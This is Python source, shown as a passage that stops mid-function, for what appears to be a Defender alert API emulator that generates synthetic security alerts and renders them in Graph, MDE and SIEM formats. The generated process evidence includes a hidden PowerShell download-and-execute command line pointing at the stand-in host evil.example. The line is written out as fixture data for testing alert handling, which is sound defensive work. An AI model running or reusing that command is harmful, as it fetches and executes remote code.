"""Alert model of the Defender emulator: per-tenant alert store, realistic alert
generation (scenarios modelled on Microsoft's documented examples), updates that
move lastUpdate forward and walk status new -> inProgress -> resolved, and the
three renderings: Graph alerts_v2, MDE /api/alerts and SIEM API detection records.

One internal alert dict per alert (Graph-style names, times as ticks); renderings
are built on demand. Tenant objects own their lock; callers hold it while
reading or changing tenant.alerts.
"""

import base64
import hashlib
import random
import threading

from emu_faults import FaultSet
from emu_util import (TICKS_PER_SEC, dotnet_ticks, fmt7, fmt_ms, fmt_trim,
                      guid_from)

# ---------------------------------------------------------------- enums (Graph v1.0)

GRAPH_STATUS = ['unknown', 'new', 'inProgress', 'resolved', 'unknownFutureValue']
GRAPH_SEVERITY = ['unknown', 'informational', 'low', 'medium', 'high', 'unknownFutureValue']
GRAPH_CLASSIFICATION = ['unknown', 'falsePositive', 'truePositive',
                        'informationalExpectedActivity', 'unknownFutureValue']
GRAPH_DETERMINATION = ['unknown', 'apt', 'malware', 'securityPersonnel', 'securityTesting',
                       'unwantedSoftware', 'other', 'multiStagedAttack', 'compromisedUser',
                       'phishing', 'maliciousUserActivity', 'clean', 'insufficientData',
                       'confirmedUserActivity', 'lineOfBusinessApplication',
                       'unknownFutureValue']
# serviceSource / detectionSource: members after unknownFutureValue are "evolvable":
# only sent when the client asks with Prefer: include-unknown-enum-members.
SERVICE_SOURCE = ['unknown', 'microsoftDefenderForEndpoint', 'microsoftDefenderForIdentity',
                  'microsoftDefenderForCloudApps', 'microsoftDefenderForOffice365',
                  'microsoft365Defender', 'azureAdIdentityProtection', 'microsoftAppGovernance',
                  'dataLossPrevention', 'unknownFutureValue', 'microsoftDefenderForCloud',
                  'microsoftSentinel', 'microsoftThreatIntelligence']
DETECTION_SOURCE = ['unknown', 'microsoftDefenderForEndpoint', 'antivirus', 'smartScreen',
                    'customTi', 'microsoftDefenderForOffice365', 'automatedInvestigation',
                    'microsoftThreatExperts', 'customDetection', 'microsoftDefenderForIdentity',
                    'cloudAppSecurity', 'microsoft365Defender', 'azureAdIdentityProtection',
                    'manual', 'microsoftDataLossPrevention', 'appGovernancePolicy',
                    'appGovernanceDetection', 'unknownFutureValue', 'microsoftDefenderForCloud',
                    'microsoftDefenderForIoT', 'microsoftDefenderForServers',
                    'microsoftDefenderForStorage', 'microsoftDefenderForDNS',
                    'microsoftDefenderForDatabases', 'microsoftDefenderForContainers',
                    'microsoftDefenderForNetwork', 'microsoftDefenderForAppService',
                    'microsoftDefenderForKeyVault', 'microsoftDefenderForResourceManager',
                    'microsoftDefenderForApiManagement']


def evolvable(enum_list, value, include_unknown):
    if include_unknown or value is None:
        return value
    cut = enum_list.index('unknownFutureValue')
    return 'unknownFutureValue' if enum_list.index(value) > cut else value


MDE_DETECTION_SOURCE = {
    'microsoftDefenderForEndpoint': 'WindowsDefenderAtp', 'antivirus': 'WindowsDefenderAv',
    'smartScreen': 'WindowsDefenderSmartScreen', 'customTi': 'CustomerTI',
    'automatedInvestigation': 'AutomatedInvestigation', 'customDetection': 'CustomDetection',
    'microsoftThreatExperts': 'MTP'}
MDE_CLASSIFICATION = {'truePositive': 'TruePositive', 'falsePositive': 'FalsePositive',
                      'informationalExpectedActivity': 'InformationalExpectedActivity'}
RESOLUTIONS = [('truePositive', 'malware'), ('truePositive', 'multiStagedAttack'),
               ('truePositive', 'compromisedUser'), ('truePositive', 'phishing'),
               ('truePositive', 'unwantedSoftware'), ('falsePositive', 'clean'),
               ('falsePositive', 'insufficientData'),
               ('informationalExpectedActivity', 'securityTesting'),
               ('informationalExpectedActivity', 'lineOfBusinessApplication'),
               ('informationalExpectedActivity', 'confirmedUserActivity')]
INVESTIGATION_STATES = ['Queued', 'Running', 'PendingApproval', 'UnsupportedAlertType',
                        'SuccessfullyRemediated', 'Benign', 'PartiallyInvestigated']


def pascal(s):
    return None if s is None else s[0].upper() + s[1:]


# ---------------------------------------------------------------- scenarios

# kind: the evidence generators used; svc/det: Graph serviceSource/detectionSource.
SCENARIOS = [
    dict(title='Suspicious execution of hidden file', category='DefenseEvasion',
         mitre=['T1564.001'], svc='microsoftDefenderForEndpoint', det='antivirus',
         sev='low', ev=['device', 'file', 'process', 'registryKey'],
         desc='A hidden file has been launched. This activity could indicate a compromised '
              'host. Attackers often hide files associated with malicious tools to evade '
              'file system inspection and defenses.'),
    dict(title='Low-reputation arbitrary code executed by signed executable',
         category='Execution', mitre=['T1064', 'T1085', 'T1220'],
         svc='microsoftDefenderForEndpoint', det='microsoftDefenderForEndpoint', sev='low',
         ev=['device', 'user', 'process', 'file'],
         desc='Binaries signed by Microsoft can be used to run low-reputation arbitrary code. '
              'This technique hides the execution of malicious code within a trusted process. '
              'As a result, the trusted process might exhibit suspicious behaviors, such as '
              'opening a listening port or connecting to a command-and-control (C&C) server.'),
    dict(title='Suspicious PowerShell command line', category='Execution',
         mitre=['T1059.001', 'T1027'], svc='microsoftDefenderForEndpoint',
         det='microsoftDefenderForEndpoint', sev='medium', ev=['device', 'user', 'psprocess', 'url'],
         desc='A suspicious PowerShell activity was observed on the machine.\nThis behavior '
              'may indicate that PowerShell was used during installation, exploration, or in '
              'some cases in lateral movement activities which are used by attackers to '
              'invoke modules, download external payloads, or get more information about the '
              'system.\tAttackers usually use PowerShell to bypass security protection '
              'mechanisms by executing their payload in memory without touching the disk.'),
    dict(title="'Mikatz' credential theft tool", category='CredentialAccess',
         mitre=['T1003', 'T1003.001'], svc='microsoftDefenderForEndpoint', det='antivirus',
         sev='high', ev=['device', 'file', 'process', 'user'], threat='HackTool:Win32/Mikatz!dha',
         family='Mikatz',
         desc="Readily available tools, such as hacking programs, can be used by unauthorized "
              "individuals to spy on users. When used by attackers, these tools are often "
              "installed without authorization and used to compromise targeted machines."),
    dict(title='Ransomware behavior detected in the file system', category='Ransomware',
         mitre=['T1486', 'T1490'], svc='microsoftDefenderForEndpoint',
         det='microsoftDefenderForEndpoint', sev='high', ev=['device', 'process', 'file', 'file',
                                                             'user'],
         desc='Files were encrypted or renamed in a way that is typical of ransomware. '
              'Known ransomware families use extensions like ".locked" | ".crypt" = 3 = "x".'),
    dict(title='Connection to a custom network indicator', category='CommandAndControl',
         mitre=['T1071.001'], svc='microsoftDefenderForEndpoint', det='customTi',
         sev='medium', ev=['device', 'ip', 'url', 'process'],
         desc='An endpoint has connected to a URL or domain in your list of custom indicators.'),
    dict(title='Suspicious service registration', category='Persistence',
         mitre=['T1543.003'], svc='microsoftDefenderForEndpoint',
         det='microsoftDefenderForEndpoint', sev='medium',
         ev=['device', 'registryValue', 'process'],
         desc='A suspicious service was registered on the device. Attackers may register '
              'services to persist on a device across reboots.'),
    dict(title="'Meterpreter' malware was detected", category='Malware', mitre=[],
         svc='microsoftDefenderForEndpoint', det='antivirus', sev='informational',
         ev=['device', 'file'], threat='Trojan:Win32/Meterpreter.O', family='Meterpreter',
         desc='Malware and unwanted software are undesirable applications that perform '
              'annoying, disruptive, or harmful actions on affected machines.'),
    dict(title='Email messages containing malicious URL removed after delivery\u200b',
         category='InitialAccess', mitre=['T1566.002'], svc='microsoftDefenderForOffice365',
         det='microsoftDefenderForOffice365', sev='informational',
         ev=['mailbox', 'message', 'url', 'user'],
         desc='Emails with malicious URL that were delivered and later removed -V1.0.0.3'),
    dict(title='Suspected DCSync attack (replication of directory services)',
         category='CredentialAccess', mitre=['T1003.006'], svc='microsoftDefenderForIdentity',
         det='microsoftDefenderForIdentity', sev='high', ev=['user', 'device', 'ip'],
         desc='A replication request was initiated from a computer that is not a domain '
              'controller. This may indicate a DCSync attack.'),
    dict(title='Impossible travel activity', category='InitialAccess', mitre=['T1078'],
         svc='microsoftDefenderForCloudApps', det='cloudAppSecurity', sev='medium',
         ev=['user', 'ip', 'ip', 'cloudApp'],
         desc='The user signed in from two geographically distant locations within a time '
              'period shorter than the travel time between them.'),
    dict(title='Anonymous IP address', category='InitialAccess', mitre=['T1090.003'],
         svc='azureAdIdentityProtection', det='azureAdIdentityProtection', sev='low',
         ev=['user', 'ip'],
         desc='Sign-in from an anonymous IP address (for example: Tor browser, anonymizer VPNs).'),
    dict(title='Suspicious process executed in a Kubernetes pod', category='Execution',
         mitre=['T1609'], svc='microsoftDefenderForCloud', det='microsoftDefenderForContainers',
         sev='medium', ev=['k8spod', 'azureResource', 'process'],
         desc='Analysis of processes running within a container detected a suspicious '
              'process that is commonly used for cryptocurrency mining.'),
    dict(title='DLP policy (Credit card numbers) matched for document in SharePoint',
         category='Exfiltration', mitre=[], svc='dataLossPrevention',
         det='microsoftDataLossPrevention', sev='low', ev=['user', 'cloudApp'],
         desc='A DLP policy match was detected for a document shared externally.'),
]

for _sc in SCENARIOS:
    _sc['detectorId'] = guid_from(random.Random(_sc['title']))

# Evidence types a forwarder is unlikely to know; one is sometimes appended.
RARE_EVIDENCE = ['blobEvidence', 'iotDeviceEvidence', 'nicEvidence', 'aiAgentEvidence',
                 'sasTokenEvidence', 'amazonResourceEvidence']

FIRST = ['liz', 'jay', 'zoë', 'mário', 'søren', 'ana', 'wei', 'olga', 'dev', 'fatima']
LAST = ['bean', 'hardee', 'müller', 'o\'brien', 'nakamura', 'kowalski', 'smith', 'ferreira']
ANALYSTS = ['secop123@mssp.example', 'analyst.tier2@mssp.example', 'jane.doe@mssp.example']
GROUPS = ['UnassignedGroup', 'Servers', 'UKMachines', 'FranceMachines', 'Finance Laptops']


class Tenant:
    """One emulated customer tenant: identity, credentials, behaviour and alerts."""

    def __init__(self, index, tid, name, seed):
        self.index, self.id, self.name = index, tid, name
        self.rng = random.Random('%s/%s' % (seed, tid))
        self.lock = threading.RLock()
        self.alerts = []          # internal alert dicts, insertion order
        self.by_id = {}
        self.domain = '%s.example' % name.lower().replace(' ', '-')
        self.incident_seq = 1000 + self.rng.randrange(100000)
        self.client_id = None
        self.secrets = []         # [{'value': str, 'expired': bool}]
        self.certs = []           # emu_auth.RegisteredCert
        self.apis = {'graph', 'mde', 'siem'}
        self.consent = True
        self.roles = True         # False: token issued, API answers 403 (no permission)
        self.token_ttl = 3600
        self.hard_ttl = None      # fault token_expire_after: server-side expiry, seconds
        self.faults = FaultSet()
        self.latency_ms = 0
        self.jitter_ms = 0
        self.v1_numeric = False
        self.rate_per_min = 0.0
        self.update_per_min = 0.0
        self.late_max_s = 0.0
        self.mde_share = 0.7
        self.unknown_evidence_rate = 0.15
        self.acc_new = 0.0
        self.acc_upd = 0.0
        self._devices = [self._make_device(i) for i in range(4)]
        self._users = [self._make_user() for _ in range(5)]

    # ------------------------------------------------------------ entities
    def _make_device(self, i):
        r = self.rng
        name = '%s-%04d' % (r.choice(['ws-fin', 'ws-hr', 'srv-app', 'laptop', 'dc']),
                            r.randrange(10000))
        return dict(
            mdeDeviceId='%040x' % r.getrandbits(160), azureAdDeviceId=guid_from(r),
            name=name, fqdn='%s.%s' % (name, self.domain), domain=self.domain,
            osPlatform=r.choice(['Windows10', 'Windows11', 'WindowsServer2019']),
            osBuild=r.choice([19045, 22621, 17763, 22424]),
            rbacGroupId=r.randrange(1, 200), rbacGroupName=r.choice(GROUPS),
            ipv4=['10.%d.%d.%d' % (r.randrange(256), r.randrange(256), r.randrange(1, 255)),
                  '192.168.%d.%d' % (r.randrange(256), r.randrange(1, 255))],
            ipv6=['fe80::%x:%x' % (r.getrandbits(16), r.getrandbits(16))],
            tags=r.choice([[], ['Test Machine'], ['VIP', 'Tier 0']]),
            cloudTags=r.choice(['', 'PCI', 'Kiosk']),
            firstSeen=None)

    def _make_user(self):
        r = self.rng
        first, last = r.choice(FIRST), r.choice(LAST)
        acct = '%s.%s' % (first, last.replace("'", ''))
        netbios = self.domain.split('.')[0].upper()[:15]
        return dict(accountName=acct, domainName=netbios,
                    userSid='S-1-5-21-%d-%d-%d-%d' % (r.randrange(10**9), r.randrange(10**9),
                                                      r.randrange(10**9), r.randrange(1000, 99999)),
                    azureAdUserId=guid_from(r),
                    userPrincipalName='%s@%s' % (acct, self.domain),
                    displayName='%s %s' % (first.capitalize(), last.capitalize()))

    # ------------------------------------------------------------ ids and times
    def _vary(self, t):
        """Vary the precision like the service does: 7 digits, whole ms or whole s."""
        p = self.rng.random()
        if p < 0.25:
            return t - t % 10_000
        if p < 0.35:
            return t - t % TICKS_PER_SEC
        return t

    def _new_id(self, svc, created):
        r = self.rng
        while True:
            if svc == 'microsoftDefenderForEndpoint':
                if r.random() < 0.7:
                    aid = 'da%d_%d' % (dotnet_ticks(created), r.randrange(-2**31, 2**31))
                else:
                    aid = 'da%s_%d' % (guid_from(r), r.randrange(1, 4))
            else:
                prefix = {'microsoftDefenderForOffice365': 'fa', 'microsoftDefenderForIdentity':
                          'aa', 'microsoftDefenderForCloudApps': 'ca',
                          'azureAdIdentityProtection': 'ad', 'microsoftDefenderForCloud': 'dc',
                          'dataLossPrevention': 'dl'}.get(svc, 'xx')
                aid = prefix + guid_from(r)
            if aid not in self.by_id:
                return aid

    # ------------------------------------------------------------ generation
    def generate(self, count, now, history_s=0.0, mde_only=False):
        """Add count alerts. history_s > 0 spreads creation over [now-history, now] and
        lets some of them be updated already; 0 creates them now (lastUpdate ~ now)."""
        made = []
        for _ in range(count):
            if history_s > 0:
                created = now - int(self.rng.random() * history_s * TICKS_PER_SEC)
            else:
                created = now - self.rng.randrange(0, 3 * TICKS_PER_SEC)
            a = self._make_alert(created, now, mde_only, backfill=history_s > 0)
            self._add(a)
            made.append(a)
        return made

    def _add(self, a):
        self.alerts.append(a)
        self.by_id[a['id']] = a

    def _pick_scenario(self, mde_only):
        mde = [s for s in SCENARIOS if s['svc'] == 'microsoftDefenderForEndpoint']
        other = [s for s in SCENARIOS if s['svc'] != 'microsoftDefenderForEndpoint']
        if mde_only or self.rng.random() < self.mde_share:
            return self.rng.choice(mde)
        return self.rng.choice(other)

    def _make_alert(self, created, now, mde_only, backfill):
        r = self.rng
        sc = self._pick_scenario(mde_only)
        created = self._vary(created)
        first_act = self._vary(created - r.randrange(5, 7200) * TICKS_PER_SEC)
        last_act = first_act + r.randrange(0, max(1, created - first_act))
        if backfill:
            updated = min(now, created + r.randrange(TICKS_PER_SEC // 2, 90 * TICKS_PER_SEC))
        else:
            late = int(r.random() * self.late_max_s * TICKS_PER_SEC)
            updated = max(created, now - late)
        dev, user = r.choice(self._devices), r.choice(self._users)
        if dev['firstSeen'] is None:
            dev['firstSeen'] = self._vary(created - r.randrange(86400, 400 * 86400) * TICKS_PER_SEC)
        self.incident_seq += 1 if r.random() < 0.7 else 0
        sev = sc['sev'] if r.random() < 0.7 else r.choice(['informational', 'low', 'medium',
                                                           'high'])
        aid = self._new_id(sc['svc'], created)
        a = dict(
            id=aid, providerAlertId=aid, incidentId=self.incident_seq, status='new',
            severity=sev, classification=None if r.random() < 0.3 else 'unknown',
            determination=None, serviceSource=sc['svc'], detectionSource=sc['det'],
            detectorId=sc['detectorId'],
            title=sc['title'], description=sc['desc'], category=sc['category'],
            recommendedActions='Collect artifacts and determine scope\n-\tReview the machine '
                               'timeline for suspicious activities\n-\tBlock communication '
                               'with relevant URLs or IPs at the organization\'s perimeter.',
            assignedTo=None, actorDisplayName=r.choice([None, None, None, 'BORON']),
            threatDisplayName=sc.get('threat'), threatFamilyName=sc.get('family'),
            threatName=sc.get('threat'), mitreTechniques=list(sc['mitre']),
            created=created, updated=updated, resolved=None, firstActivity=first_act,
            lastActivity=last_act, comments=[], device=dev, user=user,
            systemTags=r.choice([[], [], ['Defender Experts']]),
            investigationId=r.choice([None, r.randrange(1, 99999)]),
            investigationState=r.choice(INVESTIGATION_STATES[:4]))
        a.update(evidence=None, ev_seed=r.getrandbits(64), ev_kinds=sc['ev'],
                 ev_rare=r.random() < self.unknown_evidence_rate)
        a['siem'] = self._siem_parts(a, now) if sc['svc'] == 'microsoftDefenderForEndpoint' else []
        if backfill and r.random() < 0.35:
            self._advance(a, min(now, updated + r.randrange(60, 3600) * TICKS_PER_SEC))
            if r.random() < 0.5:
                self._advance(a, min(now, a['updated'] + r.randrange(60, 1800) * TICKS_PER_SEC))
        return a

    # ------------------------------------------------------------ SIEM detections
    def _siem_parts(self, a, now):
        r = self.rng
        processed = min(now, a['created'] + r.randrange(2, 150) * TICKS_PER_SEC)
        processed = max(processed, a['created'])
        parts = []
        for n in range(1 if r.random() < 0.6 else 2):
            parts.append(dict(part=n, processed=processed + n * r.randrange(1, 10**7),
                              ioc=base64.b64encode(r.getrandbits(256).to_bytes(32, 'big')).decode(),
                              report=r.randrange(10**9, 2 * 10**9),
                              external='%040X' % r.getrandbits(160)))
        return parts

    # ------------------------------------------------------------ updates
    def _advance(self, a, when):
        """One lifecycle step: new -> inProgress -> resolved, or a comment on resolved."""
        r = self.rng
        a['updated'] = max(when, a['updated'] + 1)
        if a['status'] == 'new':
            a['status'] = 'inProgress'
            a['assignedTo'] = r.choice(ANALYSTS)
            a['investigationState'] = 'Running'
        elif a['status'] == 'inProgress':
            a['status'] = 'resolved'
            a['resolved'] = a['updated']
            a['classification'], a['determination'] = r.choice(RESOLUTIONS)
            a['investigationState'] = r.choice(['SuccessfullyRemediated', 'Benign'])
        a['comments'].append(dict(comment=r.choice(['Investigating; device isolated.',
                                                    'Closed: see ticket INC-%d' % r.randrange(10**5),
                                                    'FP \u2013 approved tool, tuned']),
                                  by=a['assignedTo'] or r.choice(ANALYSTS),
                                  created=a['updated']))

    def update(self, count, now, ids=None):
        """Update count alerts (or exactly ids): lastUpdate moves to now, status advances."""
        if ids:
            chosen = [self.by_id[i] for i in ids if i in self.by_id]
        else:
            open_ = [a for a in self.alerts if a['status'] != 'resolved']
            pool = open_ if len(open_) >= count else self.alerts
            chosen = self.rng.sample(pool, min(count, len(pool)))
        for a in chosen:
            self._advance(a, now)
        return chosen

    def boundary_tie(self, before, tie, at):
        """before alerts 1 ms apart, then tie alerts sharing one identical lastUpdate
        (all MDE, so they show in Graph, MDE and SIEM views)."""
        made = []
        t0 = at - (before + 1) * 10_000
        for i in range(before + tie):
            upd = t0 + min(i, before) * 10_000
            a = self._make_alert(upd - 5 * TICKS_PER_SEC, upd, True, False)
            a['updated'] = upd
            for p in a['siem']:
                p['processed'] = upd
            self._add(a)
            made.append(a)
        return made



class _EvidenceBuilder:
    """Builds an alert's Graph evidence list from its own seed, so alerts can be
    created cheaply and their evidence materialised on first use (deterministic)."""

    def __init__(self, seed, salt):
        self.rng = random.Random(seed)
        self.salt = salt

    def _file_details(self, name, path, size=None):
        h = hashlib.sha256((name + path + self.salt).encode()).hexdigest()
        return dict(sha1=h[:40], sha256=hashlib.sha256(h.encode()).hexdigest(),
                    fileName=name, filePath=path,
                    fileSize=size or self.rng.randrange(10_000, 9_000_000),
                    filePublisher=self.rng.choice(['Microsoft Corporation', None]),
                    signer=None, issuer=None)

    def _base_ev(self, kind, a, roles=(), detailed=()):
        return {'@odata.type': '#microsoft.graph.security.%s' % kind,
                'createdDateTime': fmt7(a['created'] + self.rng.randrange(0, 9_999_999)),
                'verdict': self.rng.choice(['unknown', 'suspicious', 'malicious']),
                'remediationStatus': self.rng.choice(['none', 'none', 'remediated', 'blocked']),
                'remediationStatusDetails': None, 'roles': list(roles),
                'detailedRoles': list(detailed), 'tags': []}

    def _user_account(self, u):
        return {k: u[k] for k in ('accountName', 'domainName', 'userSid', 'azureAdUserId',
                                  'userPrincipalName', 'displayName')}

    def _evidence(self, kind, a):
        r, dev, user = self.rng, a['device'], a['user']
        if kind == 'device':
            e = self._base_ev('deviceEvidence', a, ['compromised'], ['Main device'])
            e['tags'] = list(dev['tags'])
            e.update(firstSeenDateTime=fmt7(dev['firstSeen']), mdeDeviceId=dev['mdeDeviceId'],
                     azureAdDeviceId=r.choice([dev['azureAdDeviceId'], None]),
                     deviceDnsName=dev['fqdn'], osPlatform=dev['osPlatform'],
                     osBuild=dev['osBuild'], version=r.choice(['22H2', '1809', 'Other']),
                     healthStatus='active', riskScore=r.choice(['low', 'medium', 'high']),
                     rbacGroupId=dev['rbacGroupId'], rbacGroupName=dev['rbacGroupName'],
                     onboardingStatus='onboarded', defenderAvStatus=r.choice(['updated',
                                                                              'unknown']),
                     ipInterfaces=list(dev['ipv4']),
                     loggedOnUsers=[{'accountName': user['accountName'],
                                     'domainName': user['domainName']}],
                     vmMetadata=None)
            return e
        if kind == 'user':
            e = self._base_ev('userEvidence', a, r.choice([[], ['compromised']]))
            e['userAccount'] = self._user_account(user)
            return e
        if kind == 'file':
            name = r.choice(['suspicious.dll', 'invoice_2024.pdf.exe', 'MsSense.exe',
                             'mimi katz.exe', 'payload=1.bin'])
            e = self._base_ev('fileEvidence', a, [], ['Referred in command line'])
            e.update(detectionStatus=r.choice(['detected', 'blocked', 'prevented']),
                     mdeDeviceId=dev['mdeDeviceId'],
                     fileDetails=self._file_details(name, r.choice(
                         ['c:\\temp', 'C:\\Users\\%s\\AppData\\Local\\Temp' % user['accountName'],
                          'C:\\Program Files\\temp'])))
            return e
        if kind in ('process', 'psprocess'):
            if kind == 'psprocess':
                exe, path = 'powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0'
                cmd = ('powershell.exe -NoP -W Hidden -Enc SQBFAFgA== ; $a="x=1|y=2"; '
                       'iex (New-Object Net.WebClient).DownloadString(\'http://evil.example/a\')')
            else:
                exe, path = r.choice([('rundll32.exe', 'C:\\Windows\\SysWOW64'),
                                      ('cmd.exe', 'C:\\Windows\\System32'),
                                      ('MsSense.exe', 'C:\\Program Files\\temp')])
                cmd = '%s  c:\\temp\\suspicious.dll,RepeatAfterMe key=value' % exe
            pid, ppid = r.randrange(100, 20000), r.randrange(4, 2000)
            pcreated = a['firstActivity'] + r.randrange(0, TICKS_PER_SEC)
            e = self._base_ev('processEvidence', a)
            e.update(processId=pid, parentProcessId=ppid, processCommandLine=cmd,
                     processCreationDateTime=fmt7(pcreated),
                     parentProcessCreationDateTime=fmt7(pcreated - r.randrange(10**6, 10**10)),
                     detectionStatus='detected', mdeDeviceId=dev['mdeDeviceId'],
                     imageFile=self._file_details(exe, path),
                     parentProcessImageFile=dict(self._file_details(
                         'services.exe', 'C:\\Windows\\System32', 731744), sha1=None, sha256=None),
                     userAccount=r.choice([self._user_account(user), {
                         'accountName': 'SYSTEM', 'domainName': 'NT AUTHORITY',
                         'userSid': 'S-1-5-18', 'azureAdUserId': None,
                         'userPrincipalName': None, 'displayName': 'System'}]))
            return e
        if kind == 'registryKey':
            e = self._base_ev('registryKeyEvidence', a)
            e.update(registryKey='SYSTEM\\CONTROLSET001\\CONTROL\\WMI\\AUTOLOGGER\\SENSEAUDITLOGGER',
                     registryHive='HKEY_LOCAL_MACHINE')
            return e
        if kind == 'registryValue':
            e = self._base_ev('registryValueEvidence', a)
            e.update(mdeDeviceId=dev['mdeDeviceId'],
                     registryKey='SYSTEM\\CurrentControlSet\\Services\\updsvc',
                     registryHive='HKEY_LOCAL_MACHINE', registryValueName='ImagePath',
                     registryValue='C:\\ProgramData\\upd\\svc.exe -k netsvcs',
                     registryValueType='ExpandString')
            return e
        if kind == 'ip':
            e = self._base_ev('ipEvidence', a, ['destination'])
            e.update(ipAddress=r.choice(['218.90.204.%d' % r.randrange(1, 255),
                                         '2001:db8::%x' % r.getrandbits(16),
                                         '185.220.101.%d' % r.randrange(1, 255)]),
                     countryLetterCode=r.choice(['CN', 'DE', 'US', None]))
            return e
        if kind == 'url':
            e = self._base_ev('urlEvidence', a, [], [])
            e['url'] = r.choice(['http://down.esales360.cn/a?b=1&c=2',
                                 'https://evil.example/login|reset', 'http://evil.example/a'])
            return e
        if kind == 'mailbox':
            e = self._base_ev('mailboxEvidence', a, ['contextual'])
            e.update(primaryAddress=user['userPrincipalName'], displayName=user['displayName'],
                     userAccount=self._user_account(user))
            return e
        if kind == 'message':
            e = self._base_ev('analyzedMessageEvidence', a)
            e.update(networkMessageId=guid_from(r), internetMessageId='<%s@mail.example>'
                     % guid_from(r), subject='Invoice overdue \u2013 action required',
                     language='en', senderIp='40.107.%d.%d' % (r.randrange(256), r.randrange(256)),
                     recipientEmailAddress=user['userPrincipalName'],
                     p1Sender={'emailAddress': 'billing@lookalike.example',
                               'displayName': 'Billing', 'domainName': 'lookalike.example'},
                     p2Sender={'emailAddress': 'billing@lookalike.example',
                               'displayName': 'Billing', 'domainName': 'lookalike.example'},
                     receivedDateTime=fmt7(a['firstActivity']), urlCount=1, attachmentsCount=0,
                     urls=['http://down.esales360.cn/a?b=1&c=2'], threatDetectionMethods=[
                         'urlDetonationReputation'], threats=['Phish'],
                     deliveryAction='delivered', deliveryLocation='inbox_folder',
                     antiSpamDirection='inbound')
            return e
        if kind == 'cloudApp':
            e = self._base_ev('cloudApplicationEvidence', a)
            e.update(appId=r.choice([20893, 11161, 15600]),
                     displayName=r.choice(['Microsoft Exchange Online', 'Office 365',
                                           'Microsoft SharePoint Online']),
                     instanceId=0, instanceName='', saasAppId=r.randrange(10000, 30000))
            return e
        if kind == 'k8spod':
            e = self._base_ev('kubernetesPodEvidence', a, ['source'])
            e.update(name='miner-7d9f8-xk2lp', namespace={'name': 'default'},
                     podIp={'ipAddress': '10.244.1.%d' % r.randrange(2, 250)},
                     labels={'app': 'web'}, containers=[], controller=None,
                     ephemeralContainers=[], initContainers=[], serviceAccount=None)
            return e
        if kind == 'azureResource':
            e = self._base_ev('azureResourceEvidence', a, ['contextual'])
            sub = guid_from(r)
            e.update(resourceId='/subscriptions/%s/resourceGroups/rg-aks/providers/'
                                'Microsoft.ContainerService/managedClusters/aks-prod' % sub,
                     resourceName='aks-prod',
                     resourceType='Microsoft.ContainerService/managedClusters')
            return e
        raise ValueError('unknown evidence kind %s' % kind)

    def _rare_evidence(self, a):
        kind = self.rng.choice(RARE_EVIDENCE)
        e = self._base_ev(kind, a, ['contextual'])
        e.update(name='%s-%d' % (kind[:-8].lower(), self.rng.randrange(1000)),
                 futureProperty={'nested': [1, 2, {'deep': True}], 'note': 'unknown to clients'})
        return e



def evidence_of(a):
    """The alert's Graph evidence list, built on first use (caller holds tenant.lock)."""
    if a['evidence'] is None:
        b = _EvidenceBuilder(a['ev_seed'], a['device']['mdeDeviceId'])
        ev = [b._evidence(kind, a) for kind in a['ev_kinds']]
        if a['ev_rare']:
            ev.append(b._rare_evidence(a))
        a['evidence'] = ev
    return a['evidence']


# ---------------------------------------------------------------- renderings

def render_graph(a, tenant_id, include_unknown, beta=False):
    comments = [{'comment': c['comment'], 'createdByDisplayName': c['by'],
                 'createdDateTime': fmt7(c['created'])} for c in a['comments']]
    out = {
        '@odata.type': '#microsoft.graph.security.alert',
        'id': a['id'], 'providerAlertId': a['providerAlertId'],
        'incidentId': str(a['incidentId']), 'status': a['status'], 'severity': a['severity'],
        'classification': a['classification'], 'determination': a['determination'],
        'serviceSource': evolvable(SERVICE_SOURCE, a['serviceSource'], include_unknown),
        'detectionSource': evolvable(DETECTION_SOURCE, a['detectionSource'], include_unknown),
        'detectorId': a['detectorId'], 'tenantId': tenant_id, 'title': a['title'],
        'description': a['description'], 'recommendedActions': a['recommendedActions'],
        'category': a['category'], 'assignedTo': a['assignedTo'],
        'alertWebUrl': 'https://security.microsoft.com/alerts/%s?tid=%s' % (a['id'], tenant_id),
        'incidentWebUrl': 'https://security.microsoft.com/incidents/%d?tid=%s'
                          % (a['incidentId'], tenant_id),
        'actorDisplayName': a['actorDisplayName'], 'threatDisplayName': a['threatDisplayName'],
        'threatFamilyName': a['threatFamilyName'], 'mitreTechniques': list(a['mitreTechniques']),
        'createdDateTime': fmt7(a['created']), 'lastUpdateDateTime': fmt7(a['updated']),
        'resolvedDateTime': fmt7(a['resolved']) if a['resolved'] else None,
        'firstActivityDateTime': fmt_ms(a['firstActivity']),
        'lastActivityDateTime': fmt_ms(a['lastActivity']),
        'comments': comments, 'evidence': evidence_of(a), 'systemTags': list(a['systemTags']),
    }
    if beta:
        out.update(investigationState=a['investigationState'][0].lower()
                   + a['investigationState'][1:], alertPolicyId=None,
                   productName='Microsoft Defender for Endpoint'
                   if a['serviceSource'] == 'microsoftDefenderForEndpoint' else None,
                   additionalData={}, customDetails={})
    return out


_MDE_EV_KEYS = ['sha1', 'sha256', 'fileName', 'filePath', 'processId', 'processCommandLine',
                'processCreationTime', 'parentProcessId', 'parentProcessCreationTime',
                'parentProcessFileName', 'parentProcessFilePath', 'ipAddress', 'url',
                'registryKey', 'registryHive', 'registryValueType', 'registryValue',
                'accountName', 'domainName', 'userSid', 'aadUserId', 'userPrincipalName',
                'detectionStatus']


def _mde_evidence(e):
    kind = e['@odata.type'].rsplit('.', 1)[1]
    entity = {'userEvidence': 'User', 'processEvidence': 'Process', 'fileEvidence': 'File',
              'ipEvidence': 'Ip', 'urlEvidence': 'Url', 'registryKeyEvidence': 'Registry',
              'registryValueEvidence': 'Registry'}.get(kind)
    if entity is None:
        return None
    created = e['createdDateTime']
    created = created[:-1].rstrip('0').rstrip('.') + 'Z' if '.' in created else created
    out = {'entityType': entity, 'evidenceCreationTime': created}
    out.update({k: None for k in _MDE_EV_KEYS})
    ua = e.get('userAccount') if kind == 'userEvidence' else None
    if ua:
        out.update(accountName=ua['accountName'], domainName=ua['domainName'],
                   userSid=ua['userSid'], aadUserId=ua['azureAdUserId'],
                   userPrincipalName=ua['userPrincipalName'])
    fd = e.get('fileDetails') or e.get('imageFile')
    if fd:
        out.update(sha1=fd['sha1'], sha256=fd['sha256'], fileName=fd['fileName'],
                   filePath=fd['filePath'])
    if kind == 'processEvidence':
        pf = e['parentProcessImageFile']
        out.update(processId=e['processId'], processCommandLine=e['processCommandLine'],
                   processCreationTime=e['processCreationDateTime'],
                   parentProcessId=e['parentProcessId'],
                   parentProcessCreationTime=e['parentProcessCreationDateTime'],
                   parentProcessFileName=pf['fileName'], parentProcessFilePath=pf['filePath'])
